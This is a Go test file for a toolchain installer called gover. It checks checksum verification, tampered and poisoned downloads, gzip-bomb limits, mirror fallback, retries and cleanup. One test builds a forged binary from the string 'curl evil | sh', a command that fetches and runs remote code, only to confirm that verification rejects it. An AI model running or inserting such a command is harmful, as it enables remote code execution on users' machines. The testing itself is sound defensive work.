package installer_test

import (
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/goverdev/gover/installer"
	"github.com/goverdev/gover/internal/fetch"
	"github.com/goverdev/gover/internal/goproxy"
	"github.com/goverdev/gover/internal/goversion"
	"github.com/goverdev/gover/internal/manifest"
	"github.com/goverdev/gover/internal/paths"
	"github.com/goverdev/gover/internal/testdist"
	"github.com/goverdev/gover/verify"
)

var linux = installer.Platform{OS: "linux", Arch: "amd64"}

// env is one test's installer wired to one loopback distribution.
type env struct {
	t      *testing.T
	d      *testdist.Dist
	in     *installer.Installer
	said   []string
	mu     sync.Mutex
	layout paths.Layout
}

func newEnv(t *testing.T, opts testdist.Options) *env {
	t.Helper()
	d := testdist.New(t, opts)
	root := t.TempDir()
	e := &env{t: t, d: d, layout: paths.New(func(k string) string {
		if k == "GOVER_ROOT" {
			return root
		}
		return ""
	}, paths.Dirs{})}
	f := fetch.New("gover-test")
	f.Backoff = func(int) time.Duration { return time.Millisecond }
	f.StallTimeout = 500 * time.Millisecond
	e.in = &installer.Installer{
		Layout: e.layout,
		Fetch:  f,
		Now:    time.Now,
		Say: func(format string, args ...any) {
			e.mu.Lock()
			e.said = append(e.said, fmt.Sprintf(format, args...))
			e.mu.Unlock()
		},
		GoverVersion: "test",
	}
	return e
}

func (e *env) official(mirrors ...string) *installer.Official {
	return &installer.Official{
		IndexURLs:   []string{e.d.IndexURL},
		DownloadURL: e.d.DownloadURL + "/",
		Mirrors:     mirrors,
		Fetch:       e.in.Fetch,
		Cache:       e.layout.Cache,
		Now:         time.Now,
	}
}

func (e *env) proxy(gosumdb string) *installer.Proxy {
	entries, err := goproxy.Parse(e.d.ProxyURL)
	if err != nil {
		e.t.Fatal(err)
	}
	db, err := goproxy.ParseGOSUMDB(gosumdb)
	if err != nil {
		e.t.Fatal(err)
	}
	return &installer.Proxy{Proxies: entries, SumDB: db, Fetch: e.in.Fetch, SumDBDir: filepath.Join(e.layout.Cache, "sumdb")}
}

func (e *env) install(word string, sources ...installer.Source) (*installer.Result, error) {
	return e.in.Install(context.Background(), installer.Request{
		Word: goversion.MustParse(word), Platform: linux, Host: true, Sources: sources,
	})
}

// assertNothingInstalled checks versions/ holds no tree, record or temporary folder.
func (e *env) assertNothingInstalled() {
	e.t.Helper()
	entries, _ := os.ReadDir(e.layout.Versions)
	for _, en := range entries {
		e.t.Errorf("versions/ holds %s after a failed install", en.Name())
	}
}

func TestInstallOfficial(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	res, err := e.install("1.22.5", e.official())
	if err != nil {
		t.Fatal(err)
	}
	if res.Already || res.Version != "go1.22.5" || res.Record.Source != "official" {
		t.Fatalf("result %+v", res)
	}
	goBin, err := os.ReadFile(filepath.Join(res.Dir, "bin", "go"))
	if err != nil || !strings.Contains(string(goBin), "go1.22.5") {
		t.Fatalf("bin/go: %v %q", err, goBin)
	}
	rec, err := installer.ReadRecord(e.layout.Record("go1.22.5"))
	if err != nil {
		t.Fatal(err)
	}
	filename, _ := e.d.Archive("go1.22.5", "linux", "amd64")
	if rec.SHA256 != e.d.SHA256(filename) || len(rec.Proofs) != 2 || rec.Proofs[0].Kind != "sha256" || rec.Proofs[1].Kind != verify.ProofTree || rec.Proofs[1].Value != "go1.22.5 linux/amd64" || rec.File != filename {
		t.Fatalf("record %+v", rec)
	}
	if len(rec.Manifest.Files) < 5 {
		t.Fatalf("manifest lists %d files", len(rec.Manifest.Files))
	}
	for _, f := range rec.Manifest.Files {
		if _, err := os.Lstat(filepath.Join(res.Dir, filepath.FromSlash(f.Path))); err != nil {
			t.Errorf("manifest lists %s, not on disk: %v", f.Path, err)
		}
	}
	if _, err := os.Stat(filepath.Join(e.layout.Downloads(), filename+".part")); !os.IsNotExist(err) {
		t.Errorf("download left in the cache after install: %v", err)
	}
	// Installed: the second call does not touch the network.
	before := e.d.Requests("*")
	res, err = e.install("go1.22.5", e.official())
	if err != nil || !res.Already || e.d.Requests("*") != before {
		t.Fatalf("second install: %+v, %v, %d new requests", res, err, e.d.Requests("*")-before)
	}
}

func TestInstallWords(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	for word, want := range map[string]string{"1.21": "go1.21.13", "latest": "go1.22.5", "1.23rc1": "go1.23rc1", "1.20": "go1.20"} {
		res, err := e.install(word, e.official())
		if err != nil || res.Version != want {
			t.Errorf("install %s = %+v, %v; want %s", word, res, err, want)
		}
	}
	_, err := e.install("1.23", e.official())
	if !errors.Is(err, installer.ErrNotFound) || !strings.Contains(err.Error(), "gover install 1.23rc1") {
		t.Errorf("install 1.23 (only an rc exists) = %v; want not found pointing at 1.23rc1", err)
	}
	_, err = e.install("1.19.3", e.official())
	if !errors.Is(err, installer.ErrNotFound) {
		t.Errorf("install 1.19.3 = %v; want not found", err)
	}
}

// A proxy that answers 403 for a version it does not hold (as filtering
// and company proxies do) means "not found" when its list lacks the
// version too; a 403 for a listed version is an access problem.
func TestProxyRefusesUnlistedVersion(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	e.d.Fault(testdist.ModulePathPrefix+"v0.0.1-go1.99.0.linux-amd64.info", testdist.Status(403))
	_, err := e.install("1.99.0", e.proxy(e.d.SumDBKey))
	if !isNotFound(err) || !strings.Contains(err.Error(), "no binary release of go1.99.0") {
		t.Errorf("install 1.99.0 answered 403 = %v; want not found", err)
	}
	e.d.Fault(testdist.ModulePathPrefix+"v0.0.1-go1.22.5.linux-amd64.info", testdist.Status(403))
	_, err = e.install("1.22.5", e.proxy(e.d.SumDBKey))
	if isNotFound(err) || !strings.Contains(err.Error(), "403") || !strings.Contains(err.Error(), "credentials") {
		t.Errorf("install 1.22.5 (listed) answered 403 = %v; want the access error", err)
	}
	e.assertNothingInstalled()
}

func TestAutoFallsBackToProxy(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	off := e.official()
	off.IndexURLs = []string{e.d.ClosedURL() + "/dl/?mode=json&include=all"}
	res, err := e.install("1.22.5", off, e.proxy(e.d.SumDBKey))
	if err != nil {
		t.Fatal(err)
	}
	if res.Record.Source != "proxy" || res.Record.Proofs[0].Kind != "sumdb" || !strings.HasPrefix(res.Record.Proofs[0].Value, "h1:") {
		t.Fatalf("record %+v", res.Record)
	}
	if len(e.said) == 0 || !strings.HasPrefix(e.said[0], "official site unreachable (") ||
		!strings.Contains(e.said[0], "); using module proxy ") || !strings.HasSuffix(e.said[0], ", verified by the checksum database") {
		t.Fatalf("said %q", e.said)
	}
	// go.mod restored from _go.mod, as cmd/go does.
	if _, err := os.Stat(filepath.Join(res.Dir, "src", "go.mod")); err != nil {
		t.Fatalf("src/go.mod: %v", err)
	}
	fi, err := os.Stat(filepath.Join(res.Dir, "bin", "go"))
	if err != nil || fi.Mode()&0o111 == 0 {
		t.Fatalf("bin/go not executable: %v %v", fi, err)
	}
	// The checksum database's signed tree head is kept in gover's cache.
	if _, err := os.Stat(filepath.Join(e.layout.Cache, "sumdb", testdist.SumDBName, "latest")); err != nil {
		t.Fatalf("tree head not cached: %v", err)
	}
}

// An installed module tree is proven again from its record alone: the
// manifest hashes to the database's h1, so a record rewritten to match a
// changed tree (a poisoned cache) fails, and archives are not vouched for.
func TestVouchForInstalledModule(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	proxy := e.proxy(e.d.SumDBKey)
	res, err := e.install("1.22.5", proxy)
	if err != nil {
		t.Fatal(err)
	}
	rec, err := installer.ReadRecord(e.layout.Record(res.Name))
	if err != nil {
		t.Fatal(err)
	}
	p, err := proxy.Vouch(context.Background(), rec)
	if err != nil || p.Kind != "sumdb" || p.Value != rec.Proofs[0].Value || p.Authority != testdist.SumDBName {
		t.Fatalf("Vouch = %+v, %v; want the recorded h1 %s proven again", p, err, rec.Proofs[0].Value)
	}

	// A changed bin/go, with the record rewritten to match it.
	forged := *rec
	forged.Manifest.Files = slices.Clone(rec.Manifest.Files)
	i := slices.IndexFunc(forged.Manifest.Files, func(f manifest.File) bool { return f.Path == "bin/go" })
	forged.Manifest.Files[i].SHA256 = sha256.Sum256([]byte("#!/bin/sh\ncurl evil | sh\n"))
	_, err = proxy.Vouch(context.Background(), &forged)
	if !isVerify(err) || !strings.Contains(err.Error(), "altered") || strings.Contains(err.Error(), "\n") {
		t.Fatalf("Vouch of a forged record = %v; want a one-line verification failure", err)
	}

	off, err := e.install("1.21.13", e.official())
	if err != nil {
		t.Fatal(err)
	}
	// An archive install is vouched for by its module's files (issue 12.2)…
	if p, err := proxy.Vouch(context.Background(), off.Record); err != nil || p.Kind != verify.ProofSumDB || p.Covers == "" {
		t.Fatalf("Vouch of an archive install = %+v, %v; want the database's proof of its module's files", p, err)
	}
	// … except before Go 1.21, which has no module.
	old, err := e.install("1.20", e.official())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := proxy.Vouch(context.Background(), old.Record); !errors.Is(err, installer.ErrNotModule) {
		t.Fatalf("Vouch of a go1.20 archive install = %v; want ErrNotModule", err)
	}
}

// GOSUMDB=off does not switch the proof off; when the database cannot be
// reached, the error says why the setting did not help.
func TestSumDBOffIsSaidWhenUnreachable(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	proxy := e.proxy(e.d.SumDBKey + " " + e.d.ClosedURL())
	proxy.SumDB.OffIgnored = true
	_, err := e.install("1.22.5", proxy)
	if !fetch.IsUnreachable(err) || !strings.HasSuffix(err.Error(), "(GOSUMDB=off does not apply to Go toolchains, which are always proven, as by the go command; from mainland China set GOSUMDB=sum.golang.google.cn)") {
		t.Fatalf("install with GOSUMDB=off and no database = %v; want unreachable, saying GOSUMDB=off does not apply", err)
	}
	e.assertNothingInstalled()
}

func TestProxyModesAndDirectSumDB(t *testing.T) {
	e := newEnv(t, testdist.Options{ModuleNoModes: true, NoProxySumDB: true})
	res, err := e.install("1.21.13", e.proxy(e.d.GOSUMDB))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"bin/go", "bin/gofmt", "pkg/tool/linux_amd64/compile"} {
		fi, err := os.Stat(filepath.Join(res.Dir, filepath.FromSlash(p)))
		if err != nil || fi.Mode()&0o111 == 0 {
			t.Errorf("%s should be executable: %v %v", p, fi, err)
		}
	}
	if e.d.Requests("/sumdb/*") == 0 {
		t.Error("the checksum database was not reached directly")
	}
}

func TestProxyChecksumMismatch(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	// Let the database record the genuine zip, then serve another one.
	other := e.d.ModuleZip("go1.22.4", "linux", "amd64")
	// The database records go1.22.5 when first asked (by an install whose
	// download then fails); afterwards the proxy serves another zip.
	zipPath := testdist.ModulePathPrefix + testdist.ModuleVersion("go1.22.5", "linux", "amd64") + ".zip"
	e.d.Fault(zipPath, testdist.Status(404))
	_, _ = e.install("1.22.5", e.proxy(e.d.SumDBKey))
	e.d.ClearFaults()
	e.d.PublishModule("go1.22.5", "linux", "amd64", other)
	_, err := e.install("1.22.5", e.proxy(e.d.SumDBKey))
	if !errors.Is(err, verify.ErrFailed) || !strings.Contains(err.Error(), "h1 hash is h1:") {
		t.Fatalf("err = %v, want an h1 mismatch", err)
	}
	if _, err := os.Stat(e.layout.Toolchain("go1.22.5")); !os.IsNotExist(err) {
		t.Fatal("a zip the checksum database does not vouch for was installed")
	}
}

// A zip altered in flight (one byte) is caught, never installed.
func TestProxyTamperedZip(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	zipPath := testdist.ModulePathPrefix + testdist.ModuleVersion("go1.22.5", "linux", "amd64") + ".zip"
	e.d.Fault(zipPath, testdist.Tamper{})
	_, err := e.install("1.22.5", e.proxy(e.d.SumDBKey))
	if !isVerify(err) {
		t.Fatalf("err = %v, want a verification failure", err)
	}
	e.assertNothingInstalled()
}

func TestBrokenDownloads(t *testing.T) {
	filename := testdist.ArchiveName("go1.22.5", "linux", "amd64")
	for _, tt := range []struct {
		name   string
		path   string
		fault  testdist.Fault
		check  func(error) bool
		reason string
	}{
		{"tampered", "/dl/" + filename, testdist.Tamper{}, isVerify, "SHA-256"},
		{"wrong digest", testdist.IndexPath, testdist.WrongDigest(filename), isVerify, "SHA-256"},
		{"html page", "/dl/" + filename, testdist.HTML{}, isHTML, "HTML page"},
		{"404", "/dl/" + filename, testdist.Status(404), isNotFound, "404"},
		{"503 through every retry", "/dl/" + filename, testdist.FailTimes(100, 503), fetch.IsUnreachable, "503"},
		{"gzip bomb bigger than the index says", "/dl/" + filename, testdist.Bomb(8 << 30), isTooLarge, "larger than expected"},
		{"longer body", "/dl/" + filename, testdist.LongerBody(1 << 20), nil, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, testdist.Options{})
			e.d.Fault(tt.path, tt.fault)
			_, err := e.install("1.22.5", e.official())
			if tt.check == nil {
				if err != nil {
					t.Fatalf("install: %v", err)
				}
				return
			}
			if err == nil || !tt.check(err) || !strings.Contains(err.Error(), tt.reason) {
				t.Fatalf("err = %v; want one about %q", err, tt.reason)
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("error is not one line: %q", err)
			}
			e.assertNothingInstalled()
			if isVerify(err) {
				if _, serr := os.Stat(filepath.Join(e.layout.Downloads(), filename+".part")); !os.IsNotExist(serr) {
					t.Errorf("a download that failed verification was kept for resuming: %v", serr)
				}
			}
		})
	}
}

func isVerify(err error) bool   { return errors.Is(err, verify.ErrFailed) }
func isTooLarge(err error) bool { return errors.Is(err, fetch.ErrTooLarge) }
func isNotFound(err error) bool { return errors.Is(err, installer.ErrNotFound) }
func isHTML(err error) bool     { var h *fetch.HTMLError; return errors.As(err, &h) }

func TestTransientFailuresAreRetried(t *testing.T) {
	filename := testdist.ArchiveName("go1.22.5", "linux", "amd64")
	for name, f := range map[string]testdist.Fault{
		"503 twice":    testdist.FailTimes(2, 503),
		"429":          testdist.TooManyRequests(0),
		"reset midway": resetOnce(),
		"truncated":    testdist.Truncate(1000), // every answer: resumed piece by piece
	} {
		t.Run(name, func(t *testing.T) {
			e := newEnv(t, testdist.Options{})
			e.d.Fault("/dl/"+filename, f)
			if _, err := e.install("1.22.5", e.official()); err != nil {
				t.Fatal(err)
			}
			if n := e.d.Requests("/dl/" + filename); n < 2 {
				t.Fatalf("%d requests; the failure was not retried", n)
			}
		})
	}
}

// resetOnce resets the first answer midway, then behaves.
func resetOnce() testdist.Fault { return &once{f: testdist.ResetAfter(2000)} }

type once struct {
	f    testdist.Fault
	mu   sync.Mutex
	used bool
}

func (o *once) Wrap(next http.Handler) http.Handler {
	broken := o.f.Wrap(next)
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.mu.Lock()
		first := !o.used
		o.used = true
		o.mu.Unlock()
		if first {
			broken.ServeHTTP(w, r)
			return
		}
		next.ServeHTTP(w, r)
	})
}

// A bomb that the index and signature vouch for (a hostile publisher) is
// stopped by the unpacker's ceiling on unpacked bytes.
func TestVouchedGzipBombIsStopped(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	filename := testdist.ArchiveName("go1.22.5", "linux", "amd64")
	e.d.Publish(filename, testdist.BombTarGz(2<<30))
	_, err := e.install("1.22.5", e.official())
	if err == nil || !strings.Contains(err.Error(), "go/bin/go") {
		t.Fatalf("err = %v; want the unpacker to refuse go/bin/go", err)
	}
	e.assertNothingInstalled()
}

func TestMirrorFallsThrough(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	filename := testdist.ArchiveName("go1.22.5", "linux", "amd64")
	e.d.Fault("/mirror/"+filename, testdist.Status(404))
	res, err := e.install("1.22.5", e.official(e.d.MirrorURL+"/", e.d.Mirror2URL+"/"))
	if err != nil {
		t.Fatal(err)
	}
	if res.Record.Source != "mirror" || !strings.Contains(res.Record.URL, "/mirror2/") {
		t.Fatalf("record %+v", res.Record)
	}
	if e.d.Requests("/dl/"+filename) != 0 {
		t.Fatal("the official host was used although mirrors were set")
	}
	// A mirror serving altered bytes is caught by the official digest.
	e2 := newEnv(t, testdist.Options{})
	e2.d.Fault("/mirror/"+filename, testdist.Tamper{})
	if _, err := e2.install("1.22.5", e2.official(e2.d.MirrorURL+"/")); !isVerify(err) {
		t.Fatalf("tampered mirror: %v", err)
	}
}

func TestResumeFromPartFile(t *testing.T) {
	e := newEnv(t, testdist.Options{ExtraFiles: 300})
	filename, data := e.d.Archive("go1.22.5", "linux", "amd64")
	os.MkdirAll(e.layout.Downloads(), 0o755)
	os.WriteFile(filepath.Join(e.layout.Downloads(), filename+".part"), data[:len(data)/2], 0o644)
	if _, err := e.install("1.22.5", e.official()); err != nil {
		t.Fatal(err)
	}
	var ranged bool
	for _, r := range e.d.Log() {
		if r.Path == "/dl/"+filename && strings.HasPrefix(r.Range, "bytes=") {
			ranged = true
		}
	}
	if !ranged {
		t.Fatal("the partial download was not resumed with a Range request")
	}
}

// A partial file from a different (or tampered) download fails
// verification once resumed; gover then starts from scratch once.
func TestPoisonedPartFileIsDiscarded(t *testing.T) {
	e := newEnv(t, testdist.Options{ExtraFiles: 300})
	filename, data := e.d.Archive("go1.22.5", "linux", "amd64")
	bad := append([]byte(nil), data[:len(data)/2]...)
	bad[len(bad)/2] ^= 0xff
	os.MkdirAll(e.layout.Downloads(), 0o755)
	os.WriteFile(filepath.Join(e.layout.Downloads(), filename+".part"), bad, 0o644)
	if _, err := e.install("1.22.5", e.official()); err != nil {
		t.Fatalf("install after a poisoned partial download: %v", err)
	}
}

func TestConcurrentInstallsOneDownload(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	e.d.Fault(testdist.IndexPath, testdist.Slow(1<<20))
	var wg sync.WaitGroup
	errs := make([]error, 4)
	for i := range errs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, errs[i] = e.install("1.22.5", e.official())
		}()
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	filename := testdist.ArchiveName("go1.22.5", "linux", "amd64")
	if n := e.d.Requests("/dl/" + filename); n != 1 {
		t.Fatalf("archive downloaded %d times", n)
	}
}

func TestStaleLeftoversAreCleaned(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	os.MkdirAll(filepath.Join(e.layout.Versions, ".go1.22.5.tmp-123", "bin"), 0o755)
	os.MkdirAll(filepath.Join(e.layout.Versions, ".go1.19.old-9", "bin"), 0o755) // another version's
	os.WriteFile(e.layout.Record("go1.22.5"), []byte("{}"), 0o644)               // a record whose tree never arrived
	if list, _ := installer.List(e.layout); len(list) != 0 {
		t.Fatalf("leftovers count as installed: %+v", list)
	}
	if _, err := e.install("1.22.5", e.official()); err != nil {
		t.Fatal(err)
	}
	if stale := installer.Stale(e.layout); len(stale) != 0 {
		t.Fatalf("leftovers remain: %v", stale)
	}
}

func TestForceReinstallAndUninstall(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	if _, err := e.install("1.22.5", e.official()); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(e.layout.Toolchain("go1.22.5"), "marker")
	os.WriteFile(marker, nil, 0o644)
	res, err := e.in.Install(context.Background(), installer.Request{Word: goversion.MustParse("1.22.5"), Platform: linux, Host: true, Force: true, Sources: []installer.Source{e.official()}})
	if err != nil || res.Already {
		t.Fatalf("force: %+v %v", res, err)
	}
	if _, err := os.Stat(marker); !os.IsNotExist(err) {
		t.Fatal("--force kept the old tree")
	}
	if err := e.in.Uninstall(context.Background(), "go1.22.5"); err != nil {
		t.Fatal(err)
	}
	e.assertNothingInstalled()
	if err := e.in.Uninstall(context.Background(), "go1.22.5"); !isNotFound(err) {
		t.Fatalf("uninstall twice: %v", err)
	}
}

func TestForeignPlatform(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	win := installer.Platform{OS: "windows", Arch: "amd64"}
	res, err := e.in.Install(context.Background(), installer.Request{Word: goversion.MustParse("1.22.5"), Platform: win, Sources: []installer.Source{e.official()}})
	if err != nil {
		t.Fatal(err)
	}
	if res.Name != "go1.22.5.windows-amd64" {
		t.Fatalf("name %s", res.Name)
	}
	if _, err := os.Stat(filepath.Join(res.Dir, "bin", "go.exe")); err != nil {
		t.Fatal(err)
	}
	list, _ := installer.List(e.layout)
	if len(list) != 1 || list[0].Foreign != "windows-amd64" || list[0].Version != "go1.22.5" {
		t.Fatalf("list %+v", list)
	}
}

func TestCancelLeavesNothing(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	filename := testdist.ArchiveName("go1.22.5", "linux", "amd64")
	e.d.Fault("/dl/"+filename, testdist.Stall{After: 1000, For: time.Minute})
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	_, err := e.in.Install(ctx, installer.Request{Word: goversion.MustParse("1.22.5"), Platform: linux, Host: true, Sources: []installer.Source{e.official()}})
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v", err)
	}
	e.assertNothingInstalled()
}

// Download proves a file exactly as Install does, without unpacking it.
func TestDownloadWithoutUnpacking(t *testing.T) {
	e := newEnv(t, testdist.Options{})
	ctx := context.Background()
	dir := t.TempDir()
	for _, src := range []installer.Source{e.official(), e.proxy(e.d.SumDBKey)} {
		art, err := src.Locate(ctx, "go1.22.5", linux)
		if err != nil {
			t.Fatal(err)
		}
		dst := filepath.Join(dir, art.Filename)
		_, proofs, err := e.in.Download(ctx, art, dst)
		if err != nil || len(proofs) == 0 {
			t.Fatalf("%s: %v, proofs %v", src.Name(), err, proofs)
		}
		if _, err := os.Stat(dst); err != nil {
			t.Fatal(err)
		}
	}
	e.d.Fault("/dl/"+testdist.ArchiveName("go1.21.13", "linux", "amd64"), testdist.Tamper{})
	art, err := e.official().Locate(ctx, "go1.21.13", linux)
	if err != nil {
		t.Fatal(err)
	}
	dst := filepath.Join(dir, art.Filename)
	if _, _, err := e.in.Download(ctx, art, dst); !isVerify(err) {
		t.Fatalf("tampered: %v", err)
	}
	if entries, _ := filepath.Glob(dst + "*"); len(entries) != 0 {
		t.Fatalf("a file that failed verification was kept: %v", entries)
	}
}
